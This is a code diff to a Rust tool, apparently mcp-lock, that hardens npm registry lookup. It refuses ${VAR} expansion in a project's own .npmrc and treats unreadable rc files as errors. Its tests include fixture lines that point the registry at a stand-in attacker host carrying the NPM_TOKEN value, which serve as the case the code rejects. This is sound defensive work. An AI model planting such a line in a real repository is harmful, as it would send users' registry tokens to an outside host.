@@ -12,23 +12,34 @@ pub const DEFAULT_REGISTRY: &str = "https://registry.npmjs.org/";
 /// scoped `npm_config_@scope:registry`) in the environment, then the project's
 /// `.npmrc`, then the user's (`NPM_CONFIG_USERCONFIG` or `~/.npmrc`), then npm's
 /// default. A scoped `@scope:registry` line wins over `registry` for that scope.
+/// `Err`: an rc file that cannot be read, or a registry a project's file builds from a
+/// variable (see [`registry_given`]).
 pub fn registry_for(
     name: &str,
     project_dir: &Path,
     env: &dyn Fn(&str) -> Option<String>,
-) -> String {
+) -> Result<String, String> {
     registry_given(name, None, project_dir, env)
 }
+
+/// The largest `.npmrc` read (a regular file only).
+const MAX_NPMRC_BYTES: u64 = 1024 * 1024;
 
 /// [`registry_for`] with the runner's `--registry` argument, when given: it sets
 /// `registry` above the environment and the rc files, but a scoped
 /// `@scope:registry` still wins for that scope, as npm has it.
+///
+/// An rc file inside the project is the repository's: a `${VAR}` in the registry it
+/// names is refused rather than expanded (npm would expand it, and a cloned
+/// repository could so send a token of the environment to a host of its choosing),
+/// and an rc file that is there but cannot be read is an error, never skipped (npm
+/// would then ask a registry mcp-lock did not check).
 pub fn registry_given(
     name: &str,
     argument: Option<&str>,
     project_dir: &Path,
     env: &dyn Fn(&str) -> Option<String>,
-) -> String {
+) -> Result<String, String> {
     let scope = name
         .strip_prefix('@')
         .and_then(|s| s.split_once('/'))
@@ -47,14 +58,21 @@ pub fn registry_given(
             }
         }
     }
-    let rcs: Vec<BTreeMap<String, String>> = files
-        .iter()
-        .map(|f| {
-            std::fs::read_to_string(f)
-                .map(|t| parse_npmrc(&t, env))
-                .unwrap_or_default()
-        })
-        .collect();
+    let project = project_dir.canonicalize().ok();
+    let mut rcs: Vec<(PathBuf, bool, BTreeMap<String, String>)> = Vec::new();
+    for file in files {
+        let bytes = match crate::files::read_regular(&file, MAX_NPMRC_BYTES) {
+            Ok(bytes) => bytes,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
+            Err(e) => return Err(format!("cannot read {}: {e}", file.display())),
+        };
+        let theirs = match (&project, file.canonicalize()) {
+            (Some(project), Ok(real)) => real.starts_with(project),
+            _ => true,
+        };
+        let rc = parse_npmrc(&String::from_utf8_lossy(&bytes), env, !theirs);
+        rcs.push((file, theirs, rc));
+    }
     let mut keys = Vec::new();
     if let Some(scope) = &scope {
         keys.push(scope.as_str());
@@ -64,16 +82,25 @@ pub fn registry_given(
         if key == "registry"
             && let Some(value) = argument
         {
-            return with_slash(value.to_string());
+            return Ok(with_slash(value.to_string()));
         }
         if let Some(value) = from_env(key) {
-            return with_slash(value);
+            return Ok(with_slash(value));
         }
-        if let Some(value) = rcs.iter().find_map(|rc| rc.get(key)) {
-            return with_slash(value.clone());
+        if let Some((file, theirs, value)) = rcs
+            .iter()
+            .find_map(|(file, theirs, rc)| Some((file, theirs, rc.get(key)?)))
+        {
+            if *theirs && value.contains("${") {
+                return Err(format!(
+                    "{}: `{key}` is built from an environment variable, which mcp-lock does not expand in a project's .npmrc (a cloned repository could send its value to a host of its choosing); set npm_config_registry in the environment instead",
+                    file.display()
+                ));
+            }
+            return Ok(with_slash(value.clone()));
         }
     }
-    DEFAULT_REGISTRY.to_string()
+    Ok(DEFAULT_REGISTRY.to_string())
 }
 
 fn with_slash(mut url: String) -> String {
@@ -83,9 +110,13 @@ fn with_slash(mut url: String) -> String {
     url
 }
 
-/// `key = value` lines of an `.npmrc`, `${VAR}` expanded as npm does; comments
-/// (`#`, `;`) skipped.
-fn parse_npmrc(text: &str, env: &dyn Fn(&str) -> Option<String>) -> BTreeMap<String, String> {
+/// `key = value` lines of an `.npmrc`, `${VAR}` expanded as npm does when `expand`
+/// (else kept as written); comments (`#`, `;`) skipped.
+fn parse_npmrc(
+    text: &str,
+    env: &dyn Fn(&str) -> Option<String>,
+    expand: bool,
+) -> BTreeMap<String, String> {
     let mut out = BTreeMap::new();
     for line in text.lines() {
         let line = line.trim();
@@ -96,7 +127,7 @@ fn parse_npmrc(text: &str, env: &dyn Fn(&str) -> Option<String>) -> BTreeMap<Str
             continue;
         };
         let mut value = value.trim().trim_matches('"').to_string();
-        while let Some(start) = value.find("${") {
+        while expand && let Some(start) = value.find("${") {
             let Some(len) = value[start..].find('}') else {
                 break;
             };
@@ -351,14 +382,17 @@ mod tests {
         let home = tempfile::tempdir().unwrap();
         let home_path = home.path().to_str().unwrap().to_string();
         let env_none = |k: &str| (k == "HOME").then(|| home_path.clone());
-        assert_eq!(registry_for("pkg", dir.path(), &env_none), DEFAULT_REGISTRY);
+        assert_eq!(
+            registry_for("pkg", dir.path(), &env_none).unwrap(),
+            DEFAULT_REGISTRY
+        );
         std::fs::write(
             home.path().join(".npmrc"),
             "registry=http://user.example/\n",
         )
         .unwrap();
         assert_eq!(
-            registry_for("pkg", dir.path(), &env_none),
+            registry_for("pkg", dir.path(), &env_none).unwrap(),
             "http://user.example/"
         );
         std::fs::write(
@@ -367,11 +401,11 @@ mod tests {
         )
         .unwrap();
         assert_eq!(
-            registry_for("pkg", dir.path(), &env_none),
+            registry_for("pkg", dir.path(), &env_none).unwrap(),
             "http://project.example/"
         );
         assert_eq!(
-            registry_for("@corp/tool", dir.path(), &env_none),
+            registry_for("@corp/tool", dir.path(), &env_none).unwrap(),
             "http://corp.example/npm/"
         );
         let env = |k: &str| match k {
@@ -379,22 +413,79 @@ mod tests {
             "HOME" => Some(home_path.clone()),
             _ => None,
         };
-        assert_eq!(registry_for("pkg", dir.path(), &env), "http://env.example/");
         assert_eq!(
-            registry_given("pkg", Some("http://arg.example"), dir.path(), &env),
+            registry_for("pkg", dir.path(), &env).unwrap(),
+            "http://env.example/"
+        );
+        assert_eq!(
+            registry_given("pkg", Some("http://arg.example"), dir.path(), &env).unwrap(),
             "http://arg.example/",
             "the argument outranks the environment's registry"
         );
         // A scoped registry outranks the plain one for its scope.
         assert_eq!(
-            registry_for("@corp/tool", dir.path(), &env),
+            registry_for("@corp/tool", dir.path(), &env).unwrap(),
             "http://corp.example/npm/"
         );
         assert_eq!(
-            registry_given("@corp/tool", Some("http://arg.example"), dir.path(), &env),
+            registry_given("@corp/tool", Some("http://arg.example"), dir.path(), &env).unwrap(),
             "http://corp.example/npm/",
             "a scoped registry outranks a --registry argument too"
         );
+    }
+
+    #[test]
+    fn a_projects_npmrc_may_not_build_the_registry_from_a_variable_the_users_may() {
+        let dir = tempfile::tempdir().unwrap();
+        let home = tempfile::tempdir().unwrap();
+        let home_path = home.path().to_str().unwrap().to_string();
+        let env = |k: &str| match k {
+            "HOME" => Some(home_path.clone()),
+            "NPM_TOKEN" => Some("s3cr3t".to_string()),
+            _ => None,
+        };
+        std::fs::write(
+            home.path().join(".npmrc"),
+            "registry=http://user.example/${NPM_TOKEN}/\n",
+        )
+        .unwrap();
+        assert_eq!(
+            registry_for("pkg", dir.path(), &env).unwrap(),
+            "http://user.example/s3cr3t/",
+            "the user's own file is expanded, as npm does"
+        );
+        std::fs::write(
+            dir.path().join(".npmrc"),
+            "registry=http://evil.example/${NPM_TOKEN}/\n",
+        )
+        .unwrap();
+        let refused = registry_for("pkg", dir.path(), &env).unwrap_err();
+        assert!(
+            refused.contains(".npmrc: `registry` is built from an environment variable"),
+            "{refused}"
+        );
+        assert!(!refused.contains("s3cr3t"), "{refused}");
+        // A file the user's config points into the project is the project's too.
+        std::fs::remove_file(dir.path().join(".npmrc")).unwrap();
+        std::fs::write(
+            dir.path().join("rc"),
+            "registry=http://evil.example/${NPM_TOKEN}/\n",
+        )
+        .unwrap();
+        let rc = dir.path().join("rc").display().to_string();
+        let pointed = |k: &str| match k {
+            "NPM_CONFIG_USERCONFIG" => Some(rc.clone()),
+            other => env(other),
+        };
+        assert!(registry_for("pkg", dir.path(), &pointed).is_err());
+    }
+
+    #[test]
+    fn an_npmrc_that_is_there_but_cannot_be_read_is_an_error_not_skipped() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join(".npmrc")).unwrap();
+        let error = registry_for("pkg", dir.path(), &|_| None).unwrap_err();
+        assert!(error.contains(".npmrc: it is a directory"), "{error}");
     }
 
     #[test]
